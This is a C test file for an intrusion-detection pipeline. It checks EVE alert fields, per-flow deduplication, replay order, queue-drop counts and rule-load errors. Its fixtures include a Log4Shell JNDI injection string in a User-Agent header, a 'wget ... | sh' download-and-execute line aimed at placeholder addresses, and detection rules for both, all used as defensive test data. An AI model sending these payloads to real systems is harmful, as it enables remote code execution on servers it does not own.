// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * The payload pipeline without a kernel: hand-made samples in, EVE alerts and counters
 * out. The alert's fields, one alert per rule and flow, replay's order, the counted
 * drops of a full queue, samples without rules, malformed records, load errors.
 */
#include <openssl/evp.h>

#include "../support/test.h"
#include "pipeline_fixture.h"

static const char rules_text[] =
	"alert http any any -> any any (msg:\"TEST log4shell in the user agent\"; "
	"flow:to_server,established; http.user_agent; content:\"${jndi:\"; nocase; "
	"classtype:attempted-admin; reference:cve,2021-44228; "
	"metadata:cve 2021-44228, mitre_technique_id T1190, mitre_technique_id T1203; "
	"sid:9900001; rev:3;)\n"
	"alert tcp any any -> any any (msg:\"TEST wget pipe\"; content:\"wget\"; "
	"pcre:\"/wget\\s+\\S+\\s*\\|\\s*sh/\"; classtype:trojan-activity; sid:9900002; rev:1;)\n"
	"alert tcp any any -> any any (msg:\"TEST marker\"; content:\"MARK-\"; priority:1; "
	"sid:9900003;)\n";

static const char log4shell_request[] =
	"GET /login?x=1 HTTP/1.1\r\nHost: Gateway.Example:8443\r\n"
	"User-Agent: ${jndi:ldap://198.51.100.9:1389/a}\r\nAccept: */*\r\n\r\n";

static void test_alert_fields(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options o = { .rules_text = rules_text, .synchronous = 1 };
	struct sample_spec s = { .flow_seq = 77, .src = "198.18.5.9", .sport = 40001,
				 .dst = "198.18.0.1", .dport = 8443, .vlan = 100,
				 .payload = log4shell_request };
	struct json_object *alerts[4], *a, *md;
	unsigned char decoded[512];
	const char *b64;
	char flow_id[32];
	int n;

	CHECK(t, fixture_open(&f, &o) == 0, "pipeline did not start");
	CHECK(t, sample_feed(f.sp, &s) == 0, "feed");
	fixture_read_events(&f);
	CHECK(t, fixture_alerts(&f, alerts, 4) == 1, "expected 1 alert, got %zu",
	      fixture_alerts(&f, alerts, 4));
	a = alerts[0];
	EXPECT(t, jint(a, "alert.signature_id") == 9900001, "sid");
	EXPECT(t, jint(a, "alert.gid") == 1 && jint(a, "alert.rev") == 3, "gid/rev");
	EXPECT(t, !strcmp(jstr(a, "alert.signature"), "TEST log4shell in the user agent"), "msg");
	EXPECT(t, !strcmp(jstr(a, "alert.category"), "Attempted Administrator Privilege Gain"),
	       "category %s", jstr(a, "alert.category"));
	EXPECT(t, jint(a, "alert.severity") == 1, "severity %lld",
	       (long long)jint(a, "alert.severity"));
	EXPECT(t, !strcmp(jstr(a, "alert.action"), "allowed"), "action");
	md = jpath(a, "alert.metadata.mitre_technique_id");
	EXPECT(t, md && json_object_array_length(md) == 2 &&
		       !strcmp(json_object_get_string(json_object_array_get_idx(md, 1)), "T1203"),
	       "metadata key with two values");
	EXPECT(t, jpath(a, "alert.metadata.cve") &&
		       json_object_array_length(jpath(a, "alert.metadata.cve")) == 1,
	       "metadata cve");
	EXPECT(t, jpath(a, "alert.reference") &&
		       !strcmp(json_object_get_string(
				       json_object_array_get_idx(jpath(a, "alert.reference"), 0)),
			       "cve,2021-44228"),
	       "reference");
	/* the packet's direction, and the flow's identity shared with its flow event */
	EXPECT(t, !strcmp(jstr(a, "src_ip"), "198.18.5.9") && jint(a, "src_port") == 40001,
	       "src");
	EXPECT(t, !strcmp(jstr(a, "dest_ip"), "198.18.0.1") && jint(a, "dest_port") == 8443,
	       "dest");
	EXPECT(t, !strcmp(jstr(a, "proto"), "TCP"), "proto");
	EXPECT(t, !strcmp(jstr(a, "direction"), "to_server"), "direction");
	EXPECT(t, !strcmp(jstr(a, "in_iface"), FIXTURE_IFACE), "in_iface");
	EXPECT(t, jpath(a, "vlan") && json_object_get_int(json_object_array_get_idx(
						   jpath(a, "vlan"), 0)) == 100,
	       "vlan");
	snprintf(flow_id, sizeof(flow_id), "%llu",
		 (unsigned long long)flow_id_of(FIXTURE_SALT, 77));
	EXPECT(t, !strcmp(jstr(a, "flow_id"), flow_id), "flow_id %s, expected %s",
	       jstr(a, "flow_id"), flow_id);
	EXPECT(t, jstr(a, "community_id") && !strncmp(jstr(a, "community_id"), "1:", 2),
	       "community_id");
	EXPECT(t, !strcmp(jstr(a, "flow.src_ip"), "198.18.5.9"), "flow.src_ip");
	/* the payload as sampled */
	b64 = jstr(a, "payload");
	CHECK(t, b64, "no payload");
	n = EVP_DecodeBlock(decoded, (const unsigned char *)b64, (int)strlen(b64));
	EXPECT(t, n >= (int)strlen(log4shell_request) &&
		       !memcmp(decoded, log4shell_request, strlen(log4shell_request)),
	       "payload does not decode to the request");
	EXPECT(t, jstr(a, "payload_printable") &&
		       !strncmp(jstr(a, "payload_printable"), "GET /login?x=1 HTTP/1.1..Host", 29),
	       "payload_printable %s", jstr(a, "payload_printable"));
	/* the request, with Suricata's field names */
	EXPECT(t, !strcmp(jstr(a, "http.hostname"), "gateway.example"), "hostname %s",
	       jstr(a, "http.hostname"));
	EXPECT(t, !strcmp(jstr(a, "http.url"), "/login?x=1"), "url");
	EXPECT(t, !strcmp(jstr(a, "http.http_user_agent"), "${jndi:ldap://198.51.100.9:1389/a}"),
	       "user agent");
	EXPECT(t, !strcmp(jstr(a, "http.http_method"), "GET"), "method");
	EXPECT(t, !strcmp(jstr(a, "http.protocol"), "HTTP/1.1"), "protocol");
	fixture_close(&f);
}

/* A raw-payload rule matching a non-HTTP sample: no "http" object; to_client direction. */
static void test_alert_without_http(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options o = { .rules_text = rules_text, .synchronous = 1 };
	struct sample_spec s = { .flow_seq = 5, .src = "198.18.0.1", .sport = 23,
				 .dst = "198.18.5.9", .dport = 40002, .to_client = 1,
				 .payload = "$ wget http://198.51.100.7/x | sh\r\n" };
	struct json_object *alerts[4];

	CHECK(t, fixture_open(&f, &o) == 0, "pipeline did not start");
	CHECK(t, sample_feed(f.sp, &s) == 0, "feed");
	fixture_read_events(&f);
	CHECK(t, fixture_alerts(&f, alerts, 4) == 1, "expected 1 alert");
	EXPECT(t, jint(alerts[0], "alert.signature_id") == 9900002, "sid");
	EXPECT(t, !jpath(alerts[0], "http"), "an http object for a non-HTTP sample");
	EXPECT(t, !strcmp(jstr(alerts[0], "direction"), "to_client"), "direction");
	EXPECT(t, !strcmp(jstr(alerts[0], "src_ip"), "198.18.0.1"), "src is the packet's");
	EXPECT(t, !strcmp(jstr(alerts[0], "flow.src_ip"), "198.18.5.9"),
	       "flow.src_ip is the initiator");
	fixture_close(&f);
}

/* Each rule alerts once per flow; another flow alerts again; an ended flow is forgotten. */
static void test_dedupe_per_flow(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options o = { .rules_text = rules_text, .synchronous = 1 };
	struct sample_spec s = { .flow_seq = 1000, .src = "198.18.5.9", .sport = 40003,
				 .dst = "198.18.0.1", .dport = 80, .payload = "MARK-one" };
	struct json_object *alerts[16], *stats;
	int i;

	CHECK(t, fixture_open(&f, &o) == 0, "pipeline did not start");
	for (i = 0; i < 3; i++)
		sample_feed(f.sp, &s);
	s.payload = "MARK-two and wget x | sh";	/* same flow: 9900003 again, 9900002 new */
	sample_feed(f.sp, &s);
	s.flow_seq = 1001;			/* another flow, same 5-tuple reused */
	sample_feed(f.sp, &s);
	fixture_read_events(&f);
	CHECK(t, fixture_alerts(&f, alerts, 16) == 4, "expected 4 alerts, got %zu",
	      fixture_alerts(&f, alerts, 16));
	EXPECT(t, jint(alerts[0], "alert.signature_id") == 9900003 &&
		       jint(alerts[1], "alert.signature_id") == 9900002,
	       "first flow: 9900003 then 9900002");
	EXPECT(t, sample_pipeline_flow_alerted(f.sp, 1000, 1) == 1, "flow 1000 alerted");
	EXPECT(t, sample_pipeline_flow_alerted(f.sp, 4242, 1) == 0, "flow 4242 did not alert");
	stats = pipeline_stats(f.sp);
	EXPECT(t, jint(stats, "rules.deduplicated") == 3, "deduplicated %lld",
	       (long long)jint(stats, "rules.deduplicated"));
	EXPECT(t, jint(stats, "rules.matches") == 7 && jint(stats, "rules.alerts") == 4,
	       "matches %lld alerts %lld", (long long)jint(stats, "rules.matches"),
	       (long long)jint(stats, "rules.alerts"));
	EXPECT(t, jint(stats, "rules.flows_forgotten") == 1, "flow 1000 forgotten once exported");
	json_object_put(stats);
	/* without a kernel table every flow event ends its flow: flow 1000 is forgotten,
	 * and a sample of a flow_seq never seen again would alert afresh */
	s.flow_seq = 1000;
	sample_feed(f.sp, &s);
	fixture_read_events(&f);
	EXPECT(t, fixture_alerts(&f, alerts, 16) == 6, "forgotten flow alerts again: %zu",
	       fixture_alerts(&f, alerts, 16));
	fixture_close(&f);
}

/* Replay: scanned in the caller's thread, so alerts come out in the order fed. */
static void test_synchronous_order(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options o = { .rules_text = rules_text, .synchronous = 1 };
	struct json_object *alerts[64], *stats;
	char payload[32];
	size_t n, i;

	CHECK(t, fixture_open(&f, &o) == 0, "pipeline did not start");
	for (i = 0; i < 50; i++) {
		struct sample_spec s = { .flow_seq = 500 + i, .src = "198.18.5.9",
					 .sport = (uint16_t)(41000 + i), .dst = "198.18.0.1",
					 .dport = 80, .payload = payload };

		snprintf(payload, sizeof(payload), "MARK-%03zu", i);
		sample_feed(f.sp, &s);
		/* synchronous: written before on_sample returned, no drain needed */
		stats = pipeline_stats(f.sp);
		EXPECT(t, jint(stats, "samples.scanned") == (int64_t)i + 1, "not scanned at once");
		json_object_put(stats);
	}
	fixture_read_events(&f);
	n = fixture_alerts(&f, alerts, 64);
	CHECK(t, n == 50, "expected 50 alerts, got %zu", n);
	for (i = 0; i < n; i++) {
		snprintf(payload, sizeof(payload), "MARK-%03zu", i);
		EXPECT(t, !strcmp(jstr(alerts[i], "payload_printable"), payload),
		       "alert %zu is %s", i, jstr(alerts[i], "payload_printable"));
	}
	stats = pipeline_stats(f.sp);
	EXPECT(t, jint(stats, "samples.workers") == 0 && jint(stats, "samples.queued") == 0,
	       "synchronous mode queued samples");
	json_object_put(stats);
	fixture_close(&f);
}

/*
 * Live, with a queue of 4 and one worker: samples pushed faster than a worker scans are
 * counted as dropped_queue_full, never lost silently. Every sample is its own flow and
 * matches, so the alerts written must be exactly the samples scanned.
 */
static void test_queue_full_counted(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options o = { .rules_text = rules_text, .workers = 1, .queue_slots = 4 };
	struct json_object *alerts[8], *stats;
	int64_t read, scanned, dropped;
	uint32_t i;

	CHECK(t, fixture_open(&f, &o) == 0, "pipeline did not start");
	for (i = 0; i < 20000; i++) {
		struct sample_spec s = { .flow_seq = 100000 + i, .src = "198.18.5.9",
					 .sport = (uint16_t)(1024 + i), .dst = "198.18.0.1",
					 .dport = 80, .payload = log4shell_request };

		CHECK(t, sample_feed(f.sp, &s) == 0, "feed");
	}
	sample_pipeline_drain(f.sp);
	stats = pipeline_stats(f.sp);
	read = jint(stats, "samples.read");
	scanned = jint(stats, "samples.scanned");
	dropped = jint(stats, "samples.dropped_queue_full");
	EXPECT(t, read == 20000, "read %lld", (long long)read);
	EXPECT(t, dropped > 0, "a 4-slot queue kept up with 20000 samples pushed at once?");
	EXPECT(t, scanned + dropped == read, "scanned %lld + dropped %lld != read %lld",
	       (long long)scanned, (long long)dropped, (long long)read);
	EXPECT(t, jint(stats, "samples.queued") == scanned, "queued != scanned");
	EXPECT(t, jint(stats, "samples.queue_slots") == 4, "queue_slots");
	EXPECT(t, jint(stats, "samples.queue_high_water") == 4, "high water %lld",
	       (long long)jint(stats, "samples.queue_high_water"));
	EXPECT(t, json_object_get_boolean(jpath(stats, "samples.balanced")), "not balanced");
	EXPECT(t, jint(stats, "rules.alerts") == scanned, "alerts %lld != scanned %lld",
	       (long long)jint(stats, "rules.alerts"), (long long)scanned);
	json_object_put(stats);
	fixture_read_events(&f);
	EXPECT(t, (int64_t)f.line_count == scanned, "events written %zu", f.line_count);
	/* how many got scanned depends on how fast the worker started: at least one */
	EXPECT(t, scanned >= 1, "the worker scanned nothing");
	EXPECT(t, (int64_t)fixture_alerts(&f, alerts, 8) == (scanned < 8 ? scanned : 8),
	       "alerts in the file");
	fixture_close(&f);
}

/* No rule files: samples are read and counted as not scanned; nothing alerts. */
static void test_no_rules(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options o = { .rules_text = NULL };
	struct sample_spec s = { .flow_seq = 1, .src = "198.18.5.9", .sport = 40004,
				 .dst = "198.18.0.1", .dport = 80, .payload = log4shell_request };
	struct json_object *stats;
	int i;

	CHECK(t, fixture_open(&f, &o) == 0, "pipeline did not start");
	for (i = 0; i < 5; i++)
		sample_feed(f.sp, &s);
	stats = pipeline_stats(f.sp);
	EXPECT(t, jint(stats, "samples.read") == 5 &&
		       jint(stats, "samples.not_scanned_no_rules") == 5,
	       "read %lld not_scanned %lld", (long long)jint(stats, "samples.read"),
	       (long long)jint(stats, "samples.not_scanned_no_rules"));
	EXPECT(t, jint(stats, "rules.files") == 0 && jint(stats, "rules.loaded") == 0, "rules");
	EXPECT(t, json_object_get_boolean(jpath(stats, "samples.balanced")), "not balanced");
	EXPECT(t, sample_pipeline_flow_alerted(f.sp, 1, 1) == 0, "alerted without rules");
	json_object_put(stats);
	fixture_read_events(&f);
	EXPECT(t, f.event_count == 0, "events written without rules");
	fixture_close(&f);
}

/* Records shorter than their header, or than the payload they announce, are counted. */
static void test_malformed_counted(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options o = { .rules_text = rules_text, .synchronous = 1 };
	struct sample_spec s = { .flow_seq = 9, .src = "198.18.5.9", .sport = 40005,
				 .dst = "198.18.0.1", .dport = 80, .payload = "MARK-x" };
	uint8_t buf[sizeof(struct sample_header) + 64] __attribute__((aligned(8)));
	struct json_object *stats;
	size_t len = sample_make(buf, &s);

	CHECK(t, fixture_open(&f, &o) == 0, "pipeline did not start");
	sample_pipeline_on_sample(f.sp, buf, sizeof(struct sample_header) - 1);
	sample_pipeline_on_sample(f.sp, buf, len - 1);	/* cap_len says one byte more */
	sample_pipeline_on_sample(f.sp, buf, len);
	stats = pipeline_stats(f.sp);
	EXPECT(t, jint(stats, "samples.dropped_malformed") == 2, "malformed %lld",
	       (long long)jint(stats, "samples.dropped_malformed"));
	EXPECT(t, jint(stats, "samples.scanned") == 1 && jint(stats, "rules.alerts") == 1,
	       "the good record");
	EXPECT(t, json_object_get_boolean(jpath(stats, "samples.balanced")), "not balanced");
	json_object_put(stats);
	fixture_close(&f);
}

/* A rule the engine refuses, or a variable it refuses, stops the start with an error. */
static void test_load_errors(struct test_case *t)
{
	struct pipeline_fixture f;
	struct fixture_options bad_rule = {
		.rules_text = "alert tcp any any -> any any (content:\"x\"; flowbits:set,a; "
			      "sid:1;)\n",
		.synchronous = 1,
	};
	struct fixture_options unknown_var = {
		.rules_text = "alert tcp $NOT_DEFINED any -> any any (content:\"x\"; sid:1;)\n",
		.synchronous = 1,
	};
	struct fixture_options bad_var = {
		.rules_text = "alert tcp $DMZ any -> any any (content:\"x\"; sid:1;)\n",
		.extra_yaml = "vars:\n  address-groups:\n    DMZ: \"[198.18.0.0/33]\"\n",
		.synchronous = 1,
	};
	int err;

	err = fixture_open(&f, &bad_rule);
	EXPECT(t, err < 0 && err != -1 && !f.sp, "unsupported keyword loaded: %d", err);
	fixture_close(&f);
	err = fixture_open(&f, &unknown_var);
	EXPECT(t, err < 0 && err != -1 && !f.sp, "unknown variable loaded: %d", err);
	fixture_close(&f);
	err = fixture_open(&f, &bad_var);
	EXPECT(t, err < 0 && err != -1 && !f.sp, "a bad variable value loaded: %d", err);
	fixture_close(&f);
}

int main(void)
{
	test_program = "test_pipeline";
	RUN(test_alert_fields);
	RUN(test_alert_without_http);
	RUN(test_dedupe_per_flow);
	RUN(test_synchronous_order);
	RUN(test_queue_full_counted);
	RUN(test_no_rules);
	RUN(test_malformed_counted);
	RUN(test_load_errors);
	return test_summary();
}
